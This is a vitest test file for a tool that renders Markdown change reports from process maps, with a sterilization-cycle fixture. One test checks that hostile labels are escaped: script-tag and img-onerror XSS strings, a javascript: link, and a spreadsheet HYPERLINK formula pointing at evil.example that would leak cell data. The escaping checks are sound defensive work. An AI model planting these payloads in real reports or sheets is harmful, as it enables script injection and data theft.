import { describe, expect, it } from 'vitest'
import { diffStates } from '../../../src/domain/diff'
import { planProject } from '../../../src/domain/plan'
import { changeReport, mdText } from '../../../src/io/markdown'
import { loadProject } from '../../helpers/fixtures'

function report(fixture: string): string {
  const project = loadProject(fixture)
  const from = project.states[0]!
  const to = project.states[project.states.length - 1]!
  const planned = planProject(project, { from: from.id, to: to.id })
  if (!planned.ok) throw new Error(planned.error)
  return changeReport({ diff: diffStates(project, from, to), plan: planned.plan })
}

describe('the Markdown change report', () => {
  it('given the two-phase sterilization map, then it matches the reviewed report', async () => {
    await expect(report('plan/plan.sterile-two-phase.flowstate.json')).toMatchFileSnapshot('./snapshots/sterile-two-phase.md')
  })

  it('shows metrics before and after with their change, who must adapt, handoffs, duplicates and the plan', () => {
    const md = report('plan/plan.sterile-two-phase.flowstate.json')
    expect(md).toContain('| Metric | Current state | Future state | Change |')
    expect(md).toContain('| Lead time (min) | 113 | 106 | -7 |')
    expect(md).toContain('| Steps | 7 | 8 | +1 |')
    expect(md).toContain('| Handoffs between roles | 2 | 1 | -1 |')
    expect(md).toContain('### SPD supervisor\n\n- Hands over to SPD technician: Release load')
    expect(md).toContain('Data items documented by hand more than once: 1 before, 0 after.')
    expect(md).toContain('| 2.1 | Interface: Tray ID between Traceability system and EHR | Interface |  | 5 d | 1.7 |')
    const headings = md.split('\n').filter((l) => /^##? /.test(l))
    expect(headings).toEqual([
      '# Change report: Sterilization cycle: barcode traceability',
      '## Metrics',
      '## Who must adapt',
      '## Handoffs',
      '## Duplicate documentation',
      '## Pain points',
      '## Sign-off',
      '## Plan',
    ])
  })

  it('given hostile labels, then they print as text: no HTML, no links, no emphasis, tables intact', () => {
    const md = report('plan/plan.hostile-labels.flowstate.json')
    expect(md).not.toMatch(/<script|<img|<b>/i)
    expect(md).toContain('&lt;script&gt;alert("load")&lt;/script&gt; \\| \\*x\\*')
    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;')
    expect(md).not.toMatch(/(?<!\\)\[link(?<!\\)\]\(/)
    expect(md).toContain('Confirm \\[link\\](javascript:alert(1)) &amp; \\`code\\`')
    expect(md).toContain('### =HYPERLINK("http://evil.example/?q="&amp;A1,"Open")')
    expect(md).toContain('+Release, "load" now')
    // Every table row keeps its column count: no label's pipe or line break splits a row.
    for (const block of md.split('\n\n').filter((b) => b.startsWith('|'))) {
      const widths = block.split('\n').map((row) => row.split(/(?<!\\)\|/).length)
      expect(new Set(widths).size, block).toBe(1)
    }
  })

  it('escapes Markdown and HTML in text', () => {
    expect(mdText('a <b>&</b> *c* _d_ [e](f) `g` |h| ~i~ $j$ \\k')).toBe('a &lt;b&gt;&amp;&lt;/b&gt; \\*c\\* \\_d\\_ \\[e\\](f) \\`g\\` \\|h\\| \\~i\\~ \\$j\\$ \\\\k')
    expect(mdText(' two\r\nlines\tand  tabs ')).toBe('two lines and tabs')
  })
})
